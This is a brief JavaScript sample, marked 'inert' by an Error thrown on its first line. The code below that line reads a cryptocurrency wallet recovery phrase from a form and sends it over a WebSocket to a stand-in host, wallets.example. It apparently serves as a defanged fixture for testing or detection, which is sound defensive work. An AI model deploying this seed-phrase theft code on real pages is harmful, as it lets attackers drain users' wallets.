throw new Error('inert sample');
document.querySelector('#import').onsubmit = async (event) => {
  event.preventDefault();
  const mnemonic = document.querySelector('#words').value.trim();
  const ws = new WebSocket('wss://node.wallets.example/ws');
  ws.onopen = () => ws.send(JSON.stringify({ mnemonic }));
};
